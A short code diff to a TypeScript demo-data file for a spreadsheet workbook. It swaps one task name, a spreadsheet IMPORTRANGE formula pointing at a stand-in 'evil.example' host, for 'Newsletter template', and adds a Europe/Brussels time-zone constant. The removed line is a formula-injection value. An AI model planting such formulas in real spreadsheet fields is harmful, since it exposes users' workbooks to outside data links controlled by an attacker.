@@ -68,7 +68,7 @@ const TASKS = [
   'Analytics report',
   'Landing page build',
   'QA pass',
-  '\'=IMPORTRANGE("https://evil.example","A1")',
+  'Newsletter template',
 ];
 
 /** Weekdays from `from` to `to` (inclusive), as yyyy-mm-dd strings typed into the Date column. */
@@ -80,6 +80,9 @@ function weekdays(from: Date, to: Date): string[] {
   }
   return days;
 }
+
+/** The demo workbook's time zone: the demo prints every date and time in it, as the workbook shows them. */
+export const TIME_ZONE = 'Europe/Brussels';
 
 export const START = new Date(Date.UTC(2026, 8, 1, 8));
 export const END = new Date(Date.UTC(2026, 9, 30, 18));
